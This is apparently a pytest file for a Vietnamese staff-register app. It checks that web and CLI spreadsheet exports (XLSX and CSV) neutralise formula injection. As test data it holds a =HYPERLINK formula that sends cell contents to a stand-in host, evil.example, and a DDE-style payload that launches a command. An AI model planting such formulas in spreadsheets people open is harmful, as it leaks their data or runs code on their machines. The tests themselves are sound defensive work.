"""No formula in any spreadsheet chidao writes (models/cells.py, the OWASP rule): a task whose
text begins with `=HYPERLINK(` stays text in the web's per-unit XLSX, `chidao owes --format
xlsx`, and `chidao export` XLSX and CSV."""
from __future__ import annotations

import csv
import io

import pytest

import staff_register as sr

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("value, formula, in_csv", [
    ("=1+1", True, "'=1+1"),
    ("+84 912 345 678", True, "'+84 912 345 678"),
    ("-cmd|' /C calc'!A0", True, "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", True, "'@SUM(A1)"),
    ("\t=1+1", True, "'\t=1+1"),
    ("\r=1+1", True, "'\r=1+1"),
    ("Triển khai = 100%", False, "Triển khai = 100%"),
    (" =1", False, " =1"),
    ("", False, ""),
    (-5, False, -5),                                  # a number is a number
    (None, False, None),
])
def test_the_rule(value, formula, in_csv):
    from models.cells import csv_cell, formula_like

    assert formula_like(value) is formula
    assert csv_cell(value) == in_csv


@pytest.fixture(scope="module")
def evil_register(tmp_path_factory):
    from sqlalchemy import create_engine, text

    tmp = tmp_path_factory.mktemp("cells")
    url = f"sqlite:///{tmp}/r.db"
    sr.build(tmp / "files", url)
    with create_engine(url).begin() as c:
        oid = c.execute(text("SELECT id FROM obligations WHERE text LIKE 'Triển khai%'")).scalar_one()
        c.execute(text("UPDATE obligations SET text = :t, note = '@SUM(1+1)' WHERE id = :o"), {"t": EVIL, "o": oid})
    return url, tmp


def _xlsx_cells(data: bytes) -> list:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_only(cells: list) -> None:
    evil = [c for c in cells if c.value == EVIL]
    assert evil, "the task's text is in the sheet, unchanged"
    assert all(c.data_type == "s" and c.quotePrefix for c in evil)
    assert not [c for c in cells if c.data_type == "f"]


def test_web_unit_xlsx(evil_register):
    from fastapi.testclient import TestClient

    from app.web.main import create_app

    url, tmp = evil_register
    c = TestClient(create_app(db_url=url, intake=tmp / "intake", today=sr.TODAY), base_url="http://127.0.0.1:8000")
    r = c.get("/units/export", params={"name": "Công an tỉnh", "format": "xlsx"})
    assert r.status_code == 200
    _assert_text_only(_xlsx_cells(r.content))


@pytest.mark.parametrize("args", [["owes", "--unit", "Công an tỉnh", "--format", "xlsx"],
                                  ["export", "--format", "xlsx"]])
def test_cli_xlsx(evil_register, tmp_path, args):
    from typer.testing import CliRunner

    from app.cli import app

    url, _ = evil_register
    out = tmp_path / "out.xlsx"
    r = CliRunner().invoke(app, ["--db", url, *args, "-o", str(out)])
    assert r.exit_code == 0, r.output
    _assert_text_only(_xlsx_cells(out.read_bytes()))


def test_cli_csv(evil_register, tmp_path):
    from typer.testing import CliRunner

    from app.cli import app

    url, _ = evil_register
    out = tmp_path / "out.csv"
    r = CliRunner().invoke(app, ["--db", url, "export", "--format", "csv", "-o", str(out)])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    evil = [row for row in rows if EVIL in row["text"]]
    assert [(row["text"], row["note"]) for row in evil] == [("'" + EVIL, "'@SUM(1+1)")]
    assert not [v for row in rows for v in row.values() if v and v[0] in "=+-@\t\r"]
